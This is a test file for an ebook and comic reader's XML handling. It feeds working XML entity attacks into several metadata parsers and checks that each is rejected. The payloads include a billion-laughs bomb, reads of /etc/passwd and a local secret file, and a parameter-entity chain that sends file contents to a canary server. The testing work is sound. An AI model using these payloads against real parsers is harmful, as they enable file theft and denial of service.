// H09: XML entities that expand or refer to files and addresses. A document that declares any is rejected everywhere.
import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from 'bun:test'
import { jpegImage } from '../kit/images'
import { deflated, rawZip } from '../kit/raw-zip'
import { openBench, tell } from './bench'

setDefaultTimeout(60_000)

describe('H09', () => {
  const bench = openBench('entities')
  const SECRET = `canary-${process.pid}-text`
  let hits = 0
  let rejected = 0
  let image: Buffer
  const canary = Bun.serve({
    port: 0,
    hostname: '127.0.0.1',
    fetch: () => {
      hits++
      return new Response(`<!ENTITY x "${SECRET}">`)
    },
  })
  let file: string

  beforeAll(async () => {
    image = Buffer.from(await jpegImage({ width: 30, height: 45 }))
    file = bench.write('secret.txt', SECRET)
  })
  afterAll(async () => {
    tell('H09', `${rejected}/60 rejected, canary hits ${hits} (HTTP, files), worst ${bench.worstMs()} ms`)
    await canary.stop(true)
    await bench.close()
  })

  const laughs = (levels: number) =>
    [
      '<!ENTITY l0 "lol">',
      ...Array.from({ length: levels }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`),
    ].join('')
  const url = () => `http://127.0.0.1:${canary.port}/x`

  /** The document type, and what stands where the title should. */
  const PAYLOADS: readonly (readonly [string, () => readonly [doctype: string, text: string]])[] = [
    ['a billion laughs', () => [`[${laughs(9)}]`, '&l9;']],
    ['quadratic blow-up', () => [`[<!ENTITY a "${'x'.repeat(100_000)}">]`, '&a;'.repeat(10_000)]],
    ['entities in a circle', () => ['[<!ENTITY a "&b;"><!ENTITY b "&a;">]', '&a;']],
    ['a file', () => [`[<!ENTITY x SYSTEM "file://${file}">]`, '&x;']],
    ['a file of the system', () => ['[<!ENTITY x SYSTEM "/etc/passwd">]', '&x;']],
    ['an address', () => [`[<!ENTITY x SYSTEM "${url()}">]`, '&x;']],
    ['an address by a public name', () => [`[<!ENTITY x PUBLIC "-//X//Y" "${url()}">]`, '&x;']],
    ['a parameter entity', () => [`[<!ENTITY % p SYSTEM "${url()}"> %p;]`, '&x;']],
    [
      'a parameter entity that sends a file away',
      () => [`[<!ENTITY % f SYSTEM "file://${file}"><!ENTITY % p "<!ENTITY x SYSTEM '${url()}?%f;'>"> %p;]`, '&x;'],
    ],
    ['a document type elsewhere with entities here', () => [`SYSTEM "${url()}" [<!ENTITY x "${SECRET}">]`, '&x;']],
    ['attributes by default', () => [`[<!ATTLIST title z CDATA "${SECRET}"><!ENTITY x "${SECRET}">]`, '&x;']],
    ['a device that never ends', () => ['[<!ENTITY x SYSTEM "file:///dev/zero">]', '&x;']],
  ]

  const container = '<container><rootfiles><rootfile full-path="p.opf"/></rootfiles></container>'
  const opf = (title = 'Tide') =>
    `<package version="2.0"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>${title}</dc:title></metadata><manifest><item id="c" href="c.xhtml" media-type="application/xhtml+xml"/><item id="n" href="n.ncx" media-type="application/x-dtbncx+xml"/></manifest><spine toc="n"><itemref idref="c"/></spine></package>`
  const ncx = (title: string) =>
    `<ncx><navMap><navPoint><navLabel><text>${title}</text></navLabel><content src="c.xhtml"/></navPoint></navMap></ncx>`
  const epub = (files: Readonly<Record<string, string>>) =>
    rawZip([
      { name: 'mimetype', data: Buffer.from('application/epub+zip') },
      ...Object.entries({
        'META-INF/container.xml': container,
        'p.opf': opf(),
        'c.xhtml': '<html><body><p>x</p></body></html>',
        'n.ncx': ncx('One'),
        ...files,
      }).map(([name, text]) => deflated(name, Buffer.from(text))),
    ])

  /** Where XML comes in: the root's name, and what became of a document; true when it was rejected. */
  const ENTRIES: Readonly<
    Record<string, (doctype: (root: string) => string, text: string, at: number) => Promise<boolean>>
  > = {
    ComicInfo: async (doctype, text, at) => {
      const xml = `${doctype('ComicInfo')}<ComicInfo><Title>${text}</Title></ComicInfo>`
      const path = bench.write(
        `comic-${at}.cbz`,
        rawZip([{ name: '1.jpg', data: image }, deflated('ComicInfo.xml', Buffer.from(xml))]),
      )
      const { facts, ended } = await bench.read(path)
      expect([facts.pageCount, secretIn(facts)]).toEqual([1, false])
      return facts.metadata === null && ended.some(one => one.startsWith('metadata'))
    },
    container: async (doctype, text, at) => {
      const path = bench.write(
        `container-${at}.epub`,
        epub({ 'META-INF/container.xml': doctype('container') + container + text }),
      )
      const { facts, ended } = await bench.read(path)
      expect(secretIn(facts)).toBe(false)
      return ended.includes('parser corrupt') && !(await bench.pool.publication({ path })).ok
    },
    OPF: async (doctype, text, at) => {
      const path = bench.write(`opf-${at}.epub`, epub({ 'p.opf': doctype('package') + opf(text) }))
      const { facts, ended } = await bench.read(path)
      expect(secretIn(facts)).toBe(false)
      return ended.includes('parser corrupt') && !(await bench.pool.publication({ path })).ok
    },
    NCX: async (doctype, text, at) => {
      const path = bench.write(`ncx-${at}.epub`, epub({ 'n.ncx': doctype('ncx') + ncx(text) }))
      await bench.read(path)
      const read = await bench.pool.publication({ path })
      expect(secretIn(read)).toBe(false)
      // The book is read without its contents.
      return read.ok && read.publication.toc.length === 0
    },
    'OPF sidecar of a book': async (doctype, text, at) => {
      const path = bench.write(`sidecar-${at}/book.cbz`, rawZip([{ name: '1.jpg', data: image }]))
      bench.write(`sidecar-${at}/metadata.opf`, doctype('package') + opf(text))
      const { facts, ended } = await bench.read(path)
      expect([facts.pageCount, secretIn(facts)]).toEqual([1, false])
      return facts.metadata === null && ended.some(one => one.startsWith('metadata'))
    },
  }

  const secretIn = (read: unknown) =>
    /lollol|root:x:/.test(JSON.stringify(read)) || JSON.stringify(read).includes(SECRET)

  for (const [entry, open] of Object.entries(ENTRIES)) {
    test.each(PAYLOADS.map(([name, make], at) => [name, make, at] as const))(
      `H09: %s in ${entry}`,
      async (name, make, at) => {
        const [doctype, text] = make()
        const isRejected = await open(root => `<?xml version="1.0"?><!DOCTYPE ${root} ${doctype}>`, text, at)
        expect([name, isRejected]).toEqual([name, true])
        rejected++
      },
    )
  }

  test('H09: no external entity was requested', () => {
    expect([rejected, hits]).toEqual([60, 0])
  })
})
